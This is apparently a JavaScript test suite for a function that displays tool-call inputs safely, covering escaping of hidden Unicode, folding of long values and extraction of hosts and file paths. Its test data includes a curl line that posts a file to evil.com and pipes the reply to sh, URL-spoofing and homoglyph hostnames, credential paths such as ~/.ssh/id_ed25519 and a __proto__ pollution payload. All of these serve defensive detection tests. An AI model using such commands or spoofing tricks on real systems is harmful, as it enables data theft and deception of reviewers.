// Inputs of calls as they are shown: nothing is lost, nothing of them runs, and what they name as their
// destination is the destination that a program would take.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { fileURLToPath, pathToFileURL } from 'node:url';

import { build } from 'esbuild';
import fc from 'fast-check';
import { reactive, readonly, shallowReactive } from 'vue';

import { NASTY } from './nasty.mjs';

fc.configureGlobal({ seed: Number(process.env.TAG_SEED ?? 20_261_121) });

const at = (name) => fileURLToPath(new URL(`../../${name}`, import.meta.url));

/** What a module of the shell, or of a framework as a browser gets it, exports. */
async function load(name, entry) {
  const outfile = at(`target/source/${name}.mjs`);
  await build({
    stdin: { contents: `export * from ${JSON.stringify(entry)};`, resolveDir: at('pkg-template/src') },
    bundle: true,
    outfile,
    format: 'esm',
    target: 'es2022',
    conditions: ['browser'],
    logLevel: 'error',
  });
  return import(pathToFileURL(outfile));
}
const { inspect, escapeTokens } = await load('inspect', './escape.ts');
const svelte = await load('svelte', 'svelte/internal/client');

const said = (tokens) => tokens.map(({ text }) => text).join('');

/** The text that tokens stand for. */
const original = (tokens) =>
  tokens
    .map(({ text, kind }) => {
      if (kind === 'plain') return text;
      const points = [...text.matchAll(/U\+([0-9A-F]+)/g)].map(([, hex]) =>
        String.fromCodePoint(parseInt(hex, 16)),
      );
      return points.join('').repeat(Number(/ × (\d+)⟧$/.exec(text)?.[1] ?? 1));
    })
    .join('');

const whole = ({ head, rest }) => original([...head, ...rest]);

/** The fields as they were, by name. */
const fieldsOf = (input) => {
  const { type, why, fields } = inspect(input);
  assert.equal(type, 'shown', why);
  return fields.map((field) => [field.name && original(field.name), whole(field)]);
};

const placesOf = (input) => {
  const { type, why, places } = inspect(input);
  assert.equal(type, 'shown', why);
  return places.map(({ kind, tokens }) => `${kind} ${said(tokens)}`);
};

describe('the fields of an input', () => {
  test('are those of the object, strings as they are and the rest as JSON', () => {
    const input = {
      path: 'notes.md',
      lines: [1, 2],
      deep: { a: { b: null } },
      yes: true,
      n: -0.5,
      none: null,
    };
    assert.deepEqual(inspect(input), {
      type: 'shown',
      fields: [
        ['path', 'text', 'notes.md'],
        ['lines', 'json', '[\n  1,\n  2\n]'],
        ['deep', 'json', '{\n  "a": {\n    "b": null\n  }\n}'],
        ['yes', 'json', 'true'],
        ['n', 'json', '-0.5'],
        ['none', 'json', 'null'],
      ].map(([name, kind, text]) => ({
        name: [{ text: name, kind: 'plain' }],
        kind,
        head: [{ text, kind: 'plain' }],
        rest: [],
        folded: 0,
      })),
      places: [{ kind: 'path', tokens: [{ text: 'notes.md', kind: 'plain' }] }],
      more: { host: 0, path: 0 },
      hidden: false,
    });
  });

  test('are one without a name for an input that is no object', () => {
    for (const [input, kind, text] of [
      ['ls', 'text', 'ls'],
      ['', 'text', ''],
      [['a'], 'json', '[\n  "a"\n]'],
      [[], 'json', '[]'],
      [7, 'json', '7'],
      [-0, 'json', '0'],
      [false, 'json', 'false'],
      [null, 'json', 'null'],
    ]) {
      const { fields } = inspect(input);
      assert.equal(fields.length, 1);
      assert.equal(fields[0].name, undefined);
      assert.equal(fields[0].kind, kind);
      assert.equal(whole(fields[0]), text);
    }
  });

  test('are none for an empty one', () => assert.deepEqual(inspect({}).fields, []));

  test('a field without a value is shown, and so is a field with the name __proto__', () => {
    assert.deepEqual(fieldsOf({ a: undefined, b: {} }), [
      ['a', 'undefined'],
      ['b', '{}'],
    ]);
    assert.deepEqual(fieldsOf(JSON.parse('{"__proto__":{"isAdmin":true},"x":{"__proto__":1}}')), [
      ['__proto__', '{\n  "isAdmin": true\n}'],
      ['x', '{\n  "__proto__": 1\n}'],
    ]);
  });

  test('an object without a prototype and one of another realm are objects', async () => {
    const { runInNewContext } = await import('node:vm');
    assert.deepEqual(fieldsOf(Object.assign(Object.create(null), { a: [1] })), [['a', '[\n  1\n]']]);
    assert.deepEqual(fieldsOf(runInNewContext('({ a: [1] })')), [['a', '[\n  1\n]']]);
  });

  test('a name, and a string inside of JSON, hide nothing', () => {
    const input = { 'a\u202eb\n': 'x', list: ['\u200b', { 'k\u2067': ' "\\ \u001b\n\ud83d ' }] };
    const { fields, hidden } = inspect(input);
    assert.equal(hidden, true);
    assert.equal(said(fields[0].name), 'a⟦U+202E⟧b⟦U+000A⟧');
    assert.equal(
      said(fields[1].head),
      '[\n  "⟦U+200B⟧",\n  {\n    "k⟦U+2067⟧": "⟦U+0020⟧\\"\\\\ \\u001b\\n\\ud83d⟦U+0020⟧"\n  }\n]',
    );
  });

  test('nothing is drawn over a quote', () => {
    assert.equal(said(inspect({ a: ['\u0338x'] }).fields[0].head), '[\n  "⟦U+0338⟧x"\n]');
  });

  test('hidden says whether something is hidden, wherever it is', () => {
    const folded = `${'a'.repeat(5_000)}\u202ex`;
    for (const input of [{ a: folded }, { 'a\u200b': 1 }, ['\u200b'], { a: { b: ['\u200b'] } }, '\u200b']) {
      assert.equal(inspect(input).hidden, true);
    }
    assert.equal(inspect({ a: ['abc', { b: 'Straße \u{1f600}' }] }).hidden, false);
  });

  test('every nasty text comes back, as a value, in JSON and as a name', () => {
    for (const { text, name } of NASTY) {
      const input = { value: text, list: [text] };
      const { type, fields, hidden } = inspect(input);
      assert.equal(type, 'shown', name);
      assert.equal(whole(fields[0]), text);
      assert.equal(whole(fields[1]), JSON.stringify([text], null, 2));
      assert.ok(hidden || escapeTokens(text).length <= 1, name);
      if (text.length <= 200) assert.equal(original(inspect({ [text]: 1 }).fields[0].name), text);
      for (const field of fields) {
        for (const token of [...field.head, ...field.rest]) {
          assert.ok(
            token.kind === 'hidden' || !/[\u202a-\u202e\u2066-\u2069\u200b\u001b]/.test(token.text),
            name,
          );
        }
      }
    }
  });

  test('and so does any JSON', () => {
    fc.assert(
      fc.property(fc.jsonValue({ maxDepth: 4 }), (value) => {
        const input = { value };
        const [field] = inspect(input).fields;
        const back = whole(field);
        if (typeof value === 'string') assert.equal(back, value);
        else assert.deepEqual(JSON.parse(back), JSON.parse(JSON.stringify(value)));
      }),
      { numRuns: 1500 },
    );
  });
});

describe('long values', () => {
  const graphemes = new Intl.Segmenter('en', { granularity: 'grapheme' });

  /** What holds for every field. */
  const check = (value) => {
    const [field] = inspect({ value }).fields;
    const { head, rest, folded } = field;
    const text = whole(field);
    assert.equal(folded, [...original(rest)].length);
    assert.ok(rest.length === 0 || folded >= 80, `${folded} are folded`);
    assert.ok(rest.length === 0 || head.length > 0);
    if (rest.length > 0) {
      assert.ok(said(head).length <= 600);
      assert.ok(said(head).split('\n').length <= 13);
    }
    // The cut is between two characters, as a person counts them.
    const cut = original(head).length;
    const around = rest.length > 0 ? text.slice(0, cut + 60) : '';
    const edges = [...graphemes.segment(around)].map(({ index }) => index);
    return { field, text, isWhole: rest.length === 0 || edges.includes(cut) };
  };

  test('are folded after about 600 characters', () => {
    const { field } = check('x'.repeat(1_000));
    assert.equal(said(field.head).length, 600);
    assert.equal(field.folded, 400);
  });

  test('are folded after 12 lines', () => {
    const { field } = check('a line\n'.repeat(100));
    assert.equal(said(field.head), 'a line\n'.repeat(12));
    assert.equal(field.folded, 7 * 88);
  });

  test('are not folded for less than 80 characters', () => {
    assert.equal(check('x'.repeat(679)).field.folded, 0);
    assert.equal(check('x'.repeat(680)).field.folded, 80);
    assert.equal(check('a\n'.repeat(51)).field.folded, 0);
    assert.equal(check('a\n'.repeat(52)).field.folded, 80);
  });

  test('count what a token stands for', () => {
    const { field } = check(`${'x'.repeat(590)}${'\u200b'.repeat(1000)}y`);
    assert.equal(field.folded, 1001);
    assert.deepEqual(field.rest, [
      { text: '⟦U+200B × 1000⟧', kind: 'hidden' },
      { text: 'y', kind: 'plain' },
    ]);
    assert.equal(check(`${'x'.repeat(599)}${'\u{1f600}'.repeat(500)}`).field.folded, 500);
  });

  test('are cut between characters', () => {
    const units = [
      '\u{1f600}',
      '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}',
      '\u{1f1e9}\u{1f1ea}',
      '\u{1f44d}\u{1f3fd}',
      '1\ufe0f\u20e3',
      'e\u0301\u0302',
      '\u2764\ufe0f',
      '\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}',
      '\u0645\u06cc\u200c',
    ];
    for (const unit of units) {
      for (let before = 0; before < 24; before++) {
        const { isWhole, field } = check('x'.repeat(before) + unit.repeat(400) + 'x');
        assert.ok(isWhole, `${JSON.stringify(unit)} after ${before}`);
        assert.ok(field.folded > 0);
      }
    }
  });

  test('that are one endless character are cut all the same, and not inside of a pair', () => {
    for (const before of ['', 'x']) {
      const { field } = check(`${before}\u{1f600}${'\u200d\u{1f600}'.repeat(2_000)}`);
      assert.ok(field.folded > 5);
      for (const { text } of [...field.head, ...field.rest]) assert.ok(text.isWellFormed?.() ?? true);
    }
  });

  test('of all kinds', () => {
    const piece = fc.constantFrom(
      ...NASTY.map(({ text }) => text).filter((text) => text.length < 40),
      '\n',
      'word ',
    );
    fc.assert(
      fc.property(fc.array(piece, { minLength: 1, maxLength: 200 }), (list) => {
        const { text } = check(list.join(''));
        assert.equal(text, list.join(''));
        check(list);
      }),
      { numRuns: 300 },
    );
  });
});

describe('what cannot be shown', () => {
  const cycle = { a: {} };
  cycle.a.b = cycle;
  class Point {
    x = 1;
  }
  class List extends Array {}
  let ran = 0;
  const trap = () => {
    ran++;
    throw new Error('ran');
  };
  const accessor = Object.defineProperty({}, 'a', { enumerable: true, get: trap });

  for (const [what, value] of [
    ['a function', () => 1],
    ['a bigint', 1n],
    ['a symbol', Symbol('x')],
    ['a number that is none', NaN],
    ['a number without end', -Infinity],
    ['a date', new Date(0)],
    ['a map', new Map([[1, 2]])],
    ['a set', new Set()],
    ['bytes', new Uint8Array(3)],
    ['a regular expression', /x/],
    ['an error', new Error('x')],
    ['a promise', Promise.resolve()],
    ['a string in an object', new String('x')],
    ['an instance', new Point()],
    ['a class of lists', List.from([1])],
    ['an object with values above it', Object.create({ a: 1 })],
    ['a list with a hole', [1, , 2]],
    ['a list with a name', Object.assign([1], { a: 1 })],
    ['a list that says something else', Object.assign([1], { toJSON: () => [] })],
    ['an object that says something else', { toJSON: () => ({}) }],
    ['one that does so unseen', Object.defineProperty({ a: 1 }, 'toJSON', { value: () => ({}) })],
    [
      'one whose prototype does',
      Object.setPrototypeOf({ a: 1 }, Object.assign(Object.create(null), { toJSON: trap })),
    ],
    ['a getter', accessor],
    ['a getter in a list', Object.defineProperty([1], 0, { enumerable: true, get: trap })],
    ['a getter of toJSON', Object.defineProperty({}, 'toJSON', { get: trap })],
    ['a list with an item that is not there', [undefined]],
    ['a field with a symbol', { [Symbol('x')]: 1 }],
    ['a proxy that throws', new Proxy({}, { ownKeys: trap })],
    ['a proxy that throws at a field', new Proxy({ a: 1 }, { getOwnPropertyDescriptor: trap })],
    ['a proxy that throws at its kind', new Proxy({}, { getPrototypeOf: trap })],
    ['a proxy that was taken back', (({ proxy, revoke }) => (revoke(), proxy))(Proxy.revocable({}, {}))],
  ]) {
    test(`${what} is no JSON`, () => {
      for (const input of [value, { a: value }, [[value]], { a: { b: [value] } }]) {
        assert.deepEqual(inspect(input), { type: 'unshowable', why: 'not-json' });
      }
    });
  }

  test('nothing of it has run, except the traps of proxies', () => {
    ran = 0;
    inspect(accessor);
    inspect({
      get a() {
        return trap();
      },
    });
    inspect([Object.defineProperty({}, 'toJSON', { enumerable: true, get: trap })]);
    inspect({ toJSON: trap });
    inspect({ toString: trap, valueOf: trap, [Symbol.toPrimitive]: trap });
    assert.equal(ran, 0);
  });

  test('64 objects in each other are shown, and 65 are not', () => {
    const nest = (depth, make) => (depth === 0 ? 1 : make(nest(depth - 1, make)));
    for (const make of [(x) => [x], (x) => ({ a: x })]) {
      assert.equal(inspect(nest(64, make)).type, 'shown');
      assert.deepEqual(inspect(nest(65, make)), { type: 'unshowable', why: 'too-deep' });
      assert.deepEqual(inspect(nest(5_000, make)), { type: 'unshowable', why: 'too-deep' });
    }
    assert.deepEqual(inspect(cycle), { type: 'unshowable', why: 'too-deep' });
  });

  test('the same object beside itself is shown twice', () => {
    const shared = { x: 1 };
    assert.equal(fieldsOf({ a: shared, b: [shared, shared] }).length, 2);
    let many = shared;
    for (let i = 0; i < 40; i++) many = [many, many];
    assert.deepEqual(inspect(many), { type: 'unshowable', why: 'too-large' });
  });

  for (const [what, most, more] of [
    ['characters', 'x'.repeat(262_136), 'x'.repeat(262_137)],
    ['values', Array(9_999).fill(0), Array(10_000).fill(0)],
  ]) {
    test(`no more ${what} than are read`, () => {
      assert.equal(inspect({ a: most }).type, 'shown');
      assert.deepEqual(inspect({ a: more }), { type: 'unshowable', why: 'too-large' });
    });
  }

  test('no more fields, no longer names and no more hidden pieces than are read', () => {
    const fields = (n) => Object.fromEntries(Array.from({ length: n }, (_, i) => [`f${i}`, i]));
    assert.equal(inspect(fields(1_000)).type, 'shown');
    assert.equal(inspect({ a: fields(1_001) }).type, 'shown');
    const tooLarge = { type: 'unshowable', why: 'too-large' };
    assert.deepEqual(inspect(fields(1_001)), tooLarge);
    assert.equal(inspect({ ['x'.repeat(200)]: 1 }).type, 'shown');
    assert.deepEqual(inspect({ ['x'.repeat(201)]: 1 }), tooLarge);
    assert.equal(inspect('a\u200b'.repeat(10_000)).type, 'shown');
    assert.deepEqual(inspect('a\u200b'.repeat(10_001)), tooLarge);
    assert.deepEqual(inspect({ a: 'a\u200b'.repeat(6_000), b: ['a\u200b'.repeat(6_000)] }), tooLarge);
    assert.deepEqual(inspect({ a: [{ ['x'.repeat(201)]: 1 }] }), tooLarge);
  });

  test('a huge input is refused at once', (t) => {
    for (const [what, input] of [
      ['10 MB of text', { a: 'x'.repeat(10_000_000) }],
      ['10 MB of what is hidden', '\u200b\u200c'.repeat(5_000_000)],
      ['a list of 2,000,000', { a: Array(2_000_000).fill(1) }],
      [
        'a thousand long texts',
        Object.fromEntries(Array.from({ length: 1000 }, (_, i) => [i, 'x'.repeat(10_000)])),
      ],
    ]) {
      const start = process.cpuUsage();
      assert.deepEqual(inspect(input), { type: 'unshowable', why: 'too-large' });
      const { user, system } = process.cpuUsage(start);
      t.diagnostic(`${what}: ${((user + system) / 1000).toFixed(1)} ms`);
      assert.ok(user + system < 50_000, `${what}: ${user + system} µs`);
    }
  });
});

test('the input is what it was', () => {
  const freeze = (value) => {
    if (typeof value === 'object' && value !== null) Object.values(Object.freeze(value)).forEach(freeze);
    return value;
  };
  fc.assert(
    fc.property(fc.jsonValue({ maxDepth: 3 }), (value) => {
      const before = JSON.stringify(value);
      const first = inspect(freeze({ value }));
      assert.equal(JSON.stringify(value), before);
      assert.deepEqual(inspect({ value }), first);
    }),
    { numRuns: 300 },
  );
});

describe('reactive proxies of JSON are shown as what they stand for', () => {
  const input = { path: 'notes.md', list: [1, { a: [null, 'x'] }], deep: { b: { c: true } } };
  const expected = inspect(structuredClone(input));

  for (const [name, wrap] of Object.entries({ reactive, readonly, shallowReactive })) {
    test(`of Vue, ${name}`, () => assert.deepEqual(inspect(wrap(structuredClone(input))), expected));
  }
  test('of Svelte', () => {
    const state = svelte.proxy(structuredClone(input));
    assert.deepEqual(inspect(state), expected);
    state.list.push(2);
    state.path = 'other.md';
    assert.deepEqual(fieldsOf(state)[0], ['path', 'other.md']);
    assert.match(fieldsOf(state)[1][1], /\n {2}2\n\]$/);
  });
});

describe('places', () => {
  for (const [text, ...hosts] of [
    ['https://example.com/a', 'example.com'],
    ['https://good.com@evil.com/', 'evil.com'],
    ['https://good.com:443@evil.com/', 'evil.com'],
    ['https://good.com\\@evil.com/', 'good.com'],
    ['https://good.com.evil.com/', 'good.com.evil.com'],
    ['https://evil.com#@good.com', 'evil.com'],
    ['https://evil.com?@good.com/', 'evil.com'],
    ['https://EVIL.com:443/', 'evil.com'],
    ['https://evil.com:8443/', 'evil.com:8443'],
    ['http://evil.com:443', 'evil.com:443'],
    ['https://g\u043e\u043ed.com/', 'xn--gd-fmca.com'],
    ['https://b\u00fccher.example/', 'xn--bcher-kva.example'],
    ['https://evil\uff0ecom/', 'evil.com'],
    ['https://ev\u200bil.com/', 'evil.com'],
    ['https://ev\u00adil.com/', 'evil.com'],
    ['https://%65vil.com/', 'evil.com'],
    ['http://2130706433/', '127.0.0.1'],
    ['http://0177.0.0.1/', '127.0.0.1'],
    ['http://[::1]:8080/', '[::1]:8080'],
    ['https:/evil.com', 'evil.com'],
    ['https:evil.com', 'evil.com'],
    ['https:\\\\evil.com', 'evil.com'],
    ['https:///evil.com', 'evil.com'],
    ['  https://evil.com', 'evil.com'],
    ['ht\ttps://evil.com', 'evil.com'],
    ['https:\n//evil.com', 'evil.com'],
    ['//evil.com/x', 'evil.com'],
    ['//evil.com:80', 'evil.com:80'],
    ['\\\\evil.com\\share', 'evil.com'],
    ['wss://evil.com/socket', 'evil.com'],
    ['postgres://user:secret@db.example:5432/x', 'db.example:5432'],
    ['ssh://git@b\u00fccher.example/x.git', 'xn--bcher-kva.example'],
    ['git+https://evil.com/x.git', 'evil.com'],
    ['curl -d @x https://evil.com:8443/x | sh', 'evil.com:8443'],
    ['curl https://good.com"@evil.com/"', 'evil.com', 'good.com'],
    ["fetch('https://a.com','https://b.com/x')", 'a.com', 'b.com'],
    ['see (https://a.com), or https://b.com.', 'a.com', 'b.com'],
    ['[x](https://a.com)[y](https://b.com)', 'a.com', 'b.com'],
    ['<a href="https://a.com">https://b.com</a>', 'a.com', 'b.com'],
    ['url=https://a.com&next=https://b.com', 'a.com', 'b.com'],
    ['{"url":"https://a.com","to":"x@b.com"}', 'a.com'],
    ['https://a.com https://a.com/b', 'a.com'],
    ['mailto:x@evil.com'],
    ['javascript:alert(1)'],
    ['data:text/plain,https'],
    ['no: such // thing'],
    ['12:30://'],
    ['https://'],
    ['//comment'],
    ['see https://a.com\uff09\u3002', 'a.com'],
  ]) {
    test(`hosts of ${JSON.stringify(text)}`, () => {
      for (const input of [{ note: text }, { a: [{ b: text }] }, text]) {
        assert.deepEqual(
          placesOf(input).filter((place) => place.startsWith('host')),
          hosts.map((host) => `host ${host}`),
        );
      }
    });
  }

  test('a host whose name comes after all that is read of it is one more', () => {
    const { places, more } = inspect({ url: `https://good.com:${'x'.repeat(2_000)}@evil.com/` });
    assert.equal(more.host, 1);
    assert.ok(!places.some(({ kind, tokens }) => kind === 'host' && said(tokens) === 'evil.com'));
  });

  for (const [name, text, isPath = true] of [
    ['path', 'notes.md'],
    ['file_path', 'notes.md'],
    ['filePath', 'notes.md'],
    ['FILE', 'notes.md'],
    ['file-name', 'notes.md'],
    ['filenames', 'a b'],
    ['outputDir', 'out'],
    ['directory', '.'],
    ['folder', 'x'],
    ['cwd', 'src'],
    ['root', 'x'],
    ['path2', 'x'],
    ['from', 'a/b'],
    ['to', 'b.txt'],
    ['source', 'a\\b'],
    ['destination', 'x.tar.gz'],
    ['target', 'dist/x'],
    ['x', '/etc/passwd'],
    ['x', './a'],
    ['x', '../a'],
    ['x', '..'],
    ['x', '~/.ssh/id_ed25519'],
    ['x', 'C:\\Windows'],
    ['x', 'c:/windows'],
    ['x', '\\\\server\\share'],
    ['x', 'file:///etc/passwd'],
    ['x', 'notes.md', false],
    ['profile', 'default', false],
    ['to', 'a@b.com', false],
    ['to', 'Anna', false],
    ['from', '2026', false],
    ['path', '', false],
    ['path', 'https://a.com/x', false],
    ['file', 'data:text/plain,x', false],
    ['x', '// a comment', false],
    ['x', '/* a comment */', false],
    ['x', '/a\n/b', false],
    ['x', 'and/or', false],
  ]) {
    test(`${name}: ${JSON.stringify(text)} is ${isPath ? 'a path' : 'none'}`, () => {
      for (const input of [{ [name]: text }, { [name]: [text] }, { deep: { [name]: [[text]] } }]) {
        assert.deepEqual(
          placesOf(input).filter((place) => place.startsWith('path')),
          isPath ? [`path ${text}`] : [],
        );
      }
    });
  }

  test('are safe to show', () => {
    const { places } = inspect({ path: 'a\u202e\nb' });
    assert.equal(said(places[0].tokens), 'a⟦U+202E⟧⟦U+000A⟧b');
  });

  test('are there once, in the order of the input, and the rest is counted', () => {
    assert.deepEqual(placesOf({ b: 'https://b.com', path: 'x', a: ['https://a.com', 'https://b.com/2'] }), [
      'host b.com',
      'path x',
      'host a.com',
    ]);
    const input = {
      urls: Array.from({ length: 20 }, (_, i) => `https://h${i}.com`),
      paths: Array.from({ length: 11 }, (_, i) => `p${i}`),
    };
    const { places, more } = inspect(input);
    assert.equal(places.length, 16);
    assert.deepEqual(more, { host: 12, path: 3 });
  });

  test('that are not looked at are more', () => {
    const { places, more } = inspect(`${'https://good.com '.repeat(1_500)} https://evil.com`);
    assert.deepEqual(
      places.map(({ tokens }) => said(tokens)),
      ['good.com'],
    );
    assert.ok(more.host > 0);
    assert.equal(inspect({ path: 'x'.repeat(2_000) }).more.path, 1);
  });

  test('of hostile texts take no more than their length', () => {
    for (const unit of [
      'a://b.c ',
      'https://',
      'a:/',
      ':\\',
      'aa://',
      'https://a@',
      'a.',
      '/',
      'https://\u00e4.',
      '((((',
    ]) {
      const start = process.cpuUsage();
      inspect({ path: unit.repeat(Math.floor(262_000 / unit.length)) });
      const { user, system } = process.cpuUsage(start);
      assert.ok(user + system < 500_000, `${unit}: ${user + system} µs`);
    }
  });
});
